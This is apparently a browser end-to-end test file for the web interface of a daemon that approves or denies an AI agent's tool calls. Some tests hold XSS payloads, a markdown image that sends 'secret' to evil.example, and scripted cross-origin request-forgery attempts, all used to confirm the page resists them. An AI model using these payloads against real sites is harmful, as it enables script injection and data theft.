// The page in a real browser against the real daemon, with scripted models.
import assert from "node:assert/strict";
import fs from "node:fs";
import http from "node:http";
import path from "node:path";
import { after, before, test } from "node:test";

import { ask, Daemon, eventually, launch, signIn, watched, withPage as withPageIn } from "./support.mjs";

const TOUR = fs.readFileSync(new URL("../../docs/tour.yaml", import.meta.url), "utf8");
let browser;
before(async () => (browser = await launch()));
after(async () => browser?.close());

const withPage = (...args) => withPageIn(browser, ...args);

test("a whole run: a question about a call, a question of the model, the answer, undo", async () => {
  await withPage(TOUR, async ({ daemon, page }) => {
    assert.ok(!page.url().includes("code="), "the code has left the address");
    await ask(page, "Keep my shopping list");
    const card = page.locator(".approval");
    await card.waitFor();
    assert.match(await page.title(), /^\(1\)/);
    assert.match(await card.innerText(), /delete tour\/old-list\.md[\s\S]*High risk|High risk[\s\S]*delete tour\/old-list\.md/);
    // Typed words decide nothing; they wait until the run ends.
    await page.fill("[data-composer]", "yes");
    await page.getByText("Text does not decide").waitFor();
    await page.press("[data-composer]", "Enter");
    await page.locator(".queued").getByText("“yes”").waitFor();
    await page.getByRole("button", { name: "Withdraw" }).click();
    const clicked = Date.now();
    await card.getByRole("button", { name: "Allow once" }).click();
    await page.getByText("When do you go shopping?").waitFor();
    assert.ok(Date.now() - clicked < 10_000);
    assert.ok(!fs.existsSync(path.join(daemon.workspace, "tour/old-list.md")), "the call has run");
    await page.locator(".approval").focus();
    await page.keyboard.press("2");
    await page.locator(".md", { hasText: "Your list is in tour/shopping.md" }).waitFor();
    await page.getByText("Answer: Saturday").waitFor();
    await page.locator(".usage").waitFor();
    // Undo from the card of the call brings the file back.
    const deleted = page.locator("article", { hasText: "Delete file" }).first();
    await deleted.locator(".head").click();
    await deleted.getByRole("button", { name: "Undo" }).click();
    await eventually(() => fs.existsSync(path.join(daemon.workspace, "tour/old-list.md")), "the deleted file");
  });
});

test("a reload in the middle of a run shows the same, once", async () => {
  const script = `
version: 1
turns:
  - say: First I look at the clock.
    calls: [{tool: get_current_time, args: {}}]
  - delay_ms: 2500
    say: "${Array.from({ length: 40 }, (_, number) => `word${number}`).join(" ")} END"
`;
  await withPage(script, async ({ page }) => {
    await ask(page, "What time is it?");
    const said = (text) => page.locator(".md", { hasText: text });
    await said("First I look at the clock.").waitFor();
    await page.locator(".status .pulse").waitFor();
    await page.reload();
    await said("First I look at the clock.").waitFor();
    await said("word39 END").waitFor();
    await eventually(async () => (await page.locator(".status").count()) === 0, "the end of the run");
    for (const text of ["First I look at the clock.", "word0 word1"]) assert.equal(await page.locator(".md", { hasText: text }).count(), 1, text);
    assert.equal(await page.locator("[data-call]").count(), 1);
  });
});

test("two tabs decide at once: one counts, both show the same", async () => {
  const script = `
version: 1
turns:
  - calls: [{tool: delete_file, args: {path: a.txt}}]
  - say: Over.
`;
  const run = async ({ page, context, daemon }) => {
    fs.writeFileSync(path.join(daemon.workspace, "a.txt"), "a");
    await ask(page, "Delete it");
    await page.locator(".approval").waitFor();
    const second = await watched(context, { expected: ["409", "410"] });
    await second.goto(`${daemon.url}/#/inbox`);
    await second.locator(".approval").waitFor();
    await second.waitForTimeout(600);
    await Promise.all([
      // The slower of the two may find no button any more.
      page.locator(".approval").getByRole("button", { name: "Allow once" }).click({ timeout: 3_000 }).catch(() => null),
      second.locator(".approval").getByRole("button", { name: /^Deny\b(?! with)/ }).click({ timeout: 3_000 }).catch(() => null),
    ]);
    await page.locator(".md", { hasText: "Over." }).waitFor();
    const [one] = (await daemon.api("GET", "/approvals?state=all")).items;
    const approved = one.decision.decision === "approve";
    assert.equal(fs.existsSync(path.join(daemon.workspace, "a.txt")), !approved);
    await page.locator(`[data-call] [data-state="${approved ? "succeeded" : "denied"}"]`).waitFor();
    await page.getByText(approved ? /Allowed by owner/ : /Denied by owner/).waitFor();
    await second.getByText(approved ? /Allowed by owner/ : /Denied by owner/).first().waitFor();
    await eventually(async () => !(await second.title()).startsWith("("), "nothing waits any more");
    assert.deepEqual(second.faults, []);
  };
  await withPage(script, run, { expected: ["409", "410"] });
});

test("edited arguments run, and a denial with a note reaches the model", async () => {
  const call = "calls: [{tool: delete_file, args: {path: a.txt}}]";
  const script = `
version: 1
turns:
  - ${call}
  - expect: {results: [{tool: delete_file, outcome: succeeded}]}
    ${call}
  - expect: {results: [{tool: delete_file, outcome: denied, contains: keep this one}]}
    say: I keep it.
`;
  await withPage(script, async ({ daemon, page }) => {
    for (const name of ["a.txt", "b.txt"]) fs.writeFileSync(path.join(daemon.workspace, name), name);
    await ask(page, "Delete it");
    const card = page.locator(".approval");
    await card.getByRole("button", { name: "Edit" }).click();
    await card.getByRole("button", { name: "JSON" }).click();
    await card.locator("textarea").fill('{"path": ');
    await card.getByText("This is not JSON").waitFor();
    assert.ok(await card.getByRole("button", { name: "Allow once" }).isDisabled());
    await card.locator("textarea").fill('{"path": "b.txt"}');
    await card.getByRole("button", { name: "Allow as edited" }).click();
    await eventually(() => !fs.existsSync(path.join(daemon.workspace, "b.txt")), "the edited call");
    await card.getByText("a.txt").first().waitFor();
    await card.focus();
    await page.keyboard.press("n");
    await card.getByRole("textbox").fill("keep this one");
    await page.waitForTimeout(500);
    await card.getByRole("textbox").press("Enter");
    await page.locator(".md", { hasText: "I keep it." }).waitFor();
    assert.ok(fs.existsSync(path.join(daemon.workspace, "a.txt")));
  });
});

test("a command is taken apart, each part with the rule that speaks of it", async () => {
  const script = `
version: 1
turns:
  - calls: [{tool: execute_shell_command, args: {command: "git status && git push origin main"}}]
  - say: Over.
`;
  await withPage(script, async ({ daemon, page }) => {
    await daemon.api("PUT", "/switches/group:shell", { state: "on" });
    for (const tool of ["execute_shell_command"]) await daemon.api("PUT", `/switches/tool:${tool}`, { state: "on" });
    await daemon.api("POST", "/rules/own", [{ effect: "ask", rule: "Bash(git push:*)" }]);
    await ask(page, "Push it");
    const parts = page.locator(".segments li");
    await parts.nth(1).waitFor();
    assert.match(await parts.nth(0).innerText(), /git status/);
    assert.match(await parts.nth(1).innerText(), /git push origin main[\s\S]*Bash\(git push:\*\)[\s\S]*Ask/);
    await page.waitForTimeout(500);
    await page.locator(".approval").focus();
    await page.keyboard.press("d");
    await page.locator(".md", { hasText: "Over." }).waitFor();
    await page.locator('[data-call] [data-state="denied"]').waitFor();
    // The tester of the rules says the same.
    await page.goto(`${daemon.url}/#/rules`);
    await page.getByRole("textbox", { name: "Test a command" }).fill("ls; git push -f");
    await page.getByRole("button", { name: "Test", exact: true }).click();
    await page.locator(".segments li.hot", { hasText: "git push -f" }).waitFor();
  });
});

test("always shows what it would have matched, and is remembered as narrow as chosen", async () => {
  const calls = ["a.txt", "b.txt", "c.md"].map((name) => `  - calls: [{tool: delete_file, args: {path: ${name}}}]`).join("\n");
  await withPage(`\nversion: 1\nturns:\n${calls}\n  - say: Over.\n`, async ({ daemon, page }) => {
    for (const name of ["a.txt", "b.txt", "c.md"]) fs.writeFileSync(path.join(daemon.workspace, name), name);
    await ask(page, "Delete them");
    const card = page.locator(".approval");
    await card.getByRole("button", { name: "Allow for longer" }).click();
    await page.getByRole("menuitem", { name: "Always…" }).click();
    const dialog = page.locator("dialog[open]");
    await dialog.getByRole("textbox", { name: "path" }).fill("*.txt");
    await dialog.getByRole("button", { name: "Allow always" }).click();
    // b.txt runs without a question, c.md asks.
    await card.getByText("c.md").first().waitFor();
    assert.deepEqual(fs.readdirSync(daemon.workspace), ["c.md"]);
    const [grant] = (await daemon.api("GET", "/grants")).items;
    assert.deepEqual(grant.args, { path: "*.txt" });
    await page.waitForTimeout(500);
    await card.getByRole("button", { name: "Skip" }).click();
    await page.locator(".md", { hasText: "Over." }).waitFor();
    assert.ok(fs.existsSync(path.join(daemon.workspace, "c.md")));
  });
});

test("the daemon is killed and comes back: a banner, and the same page goes on", async () => {
  await withPage(
    TOUR,
    async ({ daemon, page }) => {
      await ask(page, "Keep my shopping list");
      await page.locator(".approval").waitFor();
      await daemon.kill();
      await page.getByText("Not connected. Showing the state of").waitFor();
      assert.ok(await page.locator(".acts").first().evaluate((node) => node.inert), "nothing can be decided meanwhile");
      await daemon.run();
      await eventually(async () => (await page.getByText("Not connected. Showing the state of").count()) === 0, "the connection");
      // The session is the one of before, and may still change something.
      await page.locator(".approval").getByRole("button", { name: "Allow once" }).click();
      await page.getByText("When do you go shopping?").waitFor();
      page.faults = page.faults.filter((fault) => !/ERR_CONNECTION|ERR_INCOMPLETE|ERR_EMPTY|Failed to fetch/.test(fault));
    },
  );
});

test("a hostile answer and a hostile result stay text", async () => {
  const evil = [
    "<img src=x onerror=window.hacked=1>", "<svg onload=window.hacked=1></svg>", "<script>window.hacked=1</script>",
    "[click](javascript:window.hacked=1)", "![secret](https://evil.example/?q=secret)", "[ok](https://example.com/a)",
  ].join("\\n\\n");
  const script = `
version: 1
turns:
  - say: "${evil.replaceAll('"', '\\"')}"
    calls: [{tool: read_file, args: {path: evil.txt}}]
  - say: "Done \\u202Eevil\\u202C end."
`;
  await withPage(script, async ({ daemon, page }) => {
    const lines = Array.from({ length: 20_000 }, (_, number) => `line ${number}`).join("\n");
    fs.writeFileSync(path.join(daemon.workspace, "evil.txt"), `<img src=x onerror=window.hacked=2>\n\u001b[31mred\u001b[0m \u202Eabc\u202C\n${lines}`);
    const foreign = [];
    page.on("request", (request) => !request.url().startsWith(daemon.url) && foreign.push(request.url()));
    await ask(page, "Read it");
    await page.locator(".md", { hasText: "⟨202E⟩evil⟨202C⟩ end." }).waitFor();
    await page.locator("[data-call] .head").click();
    await page.locator("[data-call] .code").first().waitFor();
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.equal(await page.locator(".md img, .md svg, .md script, [data-call] img").count(), 0);
    assert.equal(await page.locator('.md a[href^="javascript"]').count(), 0);
    assert.equal(await page.locator('.md a[href="https://example.com/a"]').getAttribute("rel"), "noopener noreferrer nofollow");
    await page.getByText("Image from evil.example. Not loaded.").waitFor();
    assert.deepEqual(foreign, []);
    assert.ok(!(await page.locator(".log").innerText()).includes("\u202E"), "no hidden character reaches the screen");
  });
});

test("a page of another origin can do nothing with the session", async () => {
  const foreign = http.createServer((_, answer) => answer.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>evil</title>"));
  await new Promise((resolve) => foreign.listen(0, "127.0.0.1", resolve));
  try {
    await withPage(TOUR, async ({ daemon, context }) => {
      const evil = await context.newPage();
      await evil.goto(`http://127.0.0.1:${foreign.address().port}/`);
      const said = await evil.evaluate(async (url) => {
        const tries = [];
        for (const [path, init] of [
          ["/api/v1/kill-switch", { method: "PUT", body: "{}", credentials: "include", headers: { "content-type": "application/json" } }],
          ["/api/v1/runs", { method: "POST", body: '{"text":"x"}', credentials: "include", mode: "no-cors" }],
          ["/api/v1/approvals", { credentials: "include" }],
        ]) {
          tries.push(await fetch(url + path, init).then((answer) => answer.type + answer.status, () => "blocked"));
        }
        const frame = document.createElement("iframe");
        frame.src = url;
        document.body.append(frame);
        await new Promise((resolve) => setTimeout(resolve, 500));
        const form = Object.assign(document.createElement("form"), { method: "post", action: `${url}/api/v1/session/code`, target: "x" });
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 300));
        let seen = "nothing";
        try {
          seen = frame.contentDocument?.querySelector("#app") ? "the page" : "nothing";
        } catch {
          seen = "nothing";
        }
        return { tries, seen };
      }, daemon.url);
      assert.deepEqual(said.tries.filter((one) => !["blocked", "opaque0"].includes(one)), []);
      assert.equal(said.seen, "nothing");
      assert.equal((await daemon.api("GET", "/kill-switch")).engaged, false);
      assert.deepEqual((await daemon.api("GET", "/runs")).items, []);
    });
  } finally {
    foreign.close();
  }
});

test("a viewer sees no button that would answer no", async () => {
  const daemon = await Daemon.start(TOUR);
  const context = await browser.newContext();
  try {
    const made = await daemon.api("POST", "/tokens", { name: "looks", roles: ["viewer"] });
    await daemon.api("POST", "/runs", { text: "Keep my shopping list", wait: true });
    const page = await watched(context, { expected: ["401"] });
    await page.goto(daemon.url);
    await page.getByLabel("Or paste a token").fill(made.token);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.waitForSelector(".app");
    page.faults = [];
    const conversation = (await daemon.api("GET", "/conversations")).items[0].conversation;
    for (const view of ["inbox", "tools", "tools?tool=delete_file", "history", "agents/general-assistant", "rules", "servers", "usage", "settings"]) {
      await page.goto(`${daemon.url}/#/${view}`);
      await page.waitForTimeout(400);
      const names = ["Allow once", "Deny", "Run", "Dry run", "Undo", "Verify chain", "Add rule", "Save", "Send", "Stop"];
      for (const name of names) {
        const found = page.getByRole("button", { name, exact: true });
        for (const one of await found.all()) assert.ok(await one.isDisabled(), `${view}: ${name}`);
      }
      for (const one of await page.getByRole("radio").all()) assert.ok(await one.isDisabled(), `${view}: a switch`);
    }
    assert.deepEqual(page.faults, []);
    await page.goto(`${daemon.url}/#/chat/${conversation}`);
    await page.getByText("Your role can see runs").waitFor();
    assert.ok(await page.locator("[data-composer]").isDisabled());
    assert.ok(!(await page.locator(".main").innerText()).includes("old-list"), "a viewer sees no arguments");
  } finally {
    await context.close();
    await daemon.stop();
  }
});

test("switches hold at once, and the kill switch is always in reach", async () => {
  await withPage(TOUR, async ({ daemon, page }) => {
    await page.goto(`${daemon.url}/#/tools`);
    const card = page.locator('[data-tool="read_file"]');
    await card.getByRole("radio", { name: "Ask" }).click();
    const state = async (name) => (await daemon.api("GET", `/tools/${name}`)).state;
    await eventually(async () => (await state("read_file")) === "ask", "the switch");
    // A click on the card is off, a second one what it was.
    await card.locator("p").first().click();
    await eventually(async () => (await state("read_file")) === "off", "off");
    await eventually(async () => (await card.getAttribute("class")).includes("off"), "the card");
    await card.locator("p").first().click();
    await eventually(async () => (await state("read_file")) === "ask", "what it was");
    // A change from elsewhere is shown without a reload.
    await daemon.api("PUT", "/switches/tool:write_file", { state: "off" });
    await page.locator('[data-tool="write_file"].off').waitFor();
    await page.getByRole("switch", { name: "All tools" }).first().click();
    await page.getByText("All tools have been off since").waitFor();
    assert.equal((await daemon.api("GET", "/kill-switch")).engaged, true);
    await page.getByRole("switch", { name: "All tools" }).first().click();
    await page.getByRole("button", { name: "Turn all tools on" }).click();
    await eventually(async () => !(await daemon.api("GET", "/kill-switch")).engaged, "tools on again");
    // Try it: a dry run first, then the call, through the same gates.
    await page.goto(`${daemon.url}/#/tools?tool=get_current_time`);
    const drawer = page.locator("dialog.drawer");
    await drawer.getByRole("button", { name: "Dry run" }).click();
    await drawer.locator("[data-forecast]").waitFor();
    await drawer.getByRole("button", { name: "Run", exact: true }).click();
    await drawer.locator('[data-state="succeeded"]').first().waitFor();
  });
});

test("the history: filters in the address, the trace of a call, a verified chain", async () => {
  await withPage(TOUR, async ({ daemon, page }) => {
    await daemon.api("POST", "/runs", { text: "Keep my shopping list", wait: true });
    await page.goto(`${daemon.url}/#/history?status=failed`);
    await eventually(async () => (await page.locator(".hrow").count()) === 1, "the failed call");
    await page.locator(".hrow").click();
    await page.locator("dialog.drawer .stagelist li").nth(14).waitFor();
    assert.match(page.url(), /status=failed.*call=call_/);
    await page.keyboard.press("Escape");
    await page.getByRole("combobox", { name: "State" }).selectOption("");
    await eventually(async () => (await page.locator(".hrow").count()) >= 7, "all calls");
    await page.getByRole("button", { name: "Verify chain" }).click();
    await page.getByText(/Intact: \d+ records/).waitFor();
  });
});

test("a long history has few elements, and its last row is reached, on a telephone too", async () => {
  await withPage(TOUR, async ({ daemon, page }) => {
    for (let round = 0; round < 3; round++) {
      const calls = Array.from({ length: 100 }, (_, number) => ({ tool: "file_info", arguments: { path: `f${round * 100 + number}` } }));
      await daemon.api("POST", "/calls/batch", { calls });
    }
    for (const [width, height] of [[1280, 900], [360, 740]]) {
      await page.setViewportSize({ width, height });
      await page.goto("about:blank");
      await page.goto(`${daemon.url}/#/history`);
      await page.locator(".hrow").first().waitFor();
      await eventually(async () => {
        await page.locator(".hlist").evaluate((list) => list.scrollTo({ top: list.scrollHeight }));
        return (await page.locator(".hrow", { hasText: /\bf0\b/ }).count()) === 1;
      }, "the oldest call");
      assert.ok((await page.locator(".hrow").count()) < 80, "only rows in sight are elements");
    }
  });
});

test("a code signs in once", async () => {
  const daemon = await Daemon.start(TOUR);
  const context = await browser.newContext();
  const other = await browser.newContext();
  try {
    const address = daemon.open();
    const page = await watched(context);
    await page.goto(address);
    await page.waitForSelector(".app");
    const cookies = await context.cookies();
    assert.deepEqual([cookies[0].httpOnly, cookies[0].sameSite], [true, "Strict"]);
    assert.ok(!(await page.evaluate(() => document.cookie)).includes("toolcrib"));
    const second = await watched(other, { expected: ["401"] });
    await second.goto(address);
    await second.getByText("the code is used or too old").waitFor();
  } finally {
    await context.close();
    await other.close();
    await daemon.stop();
  }
});
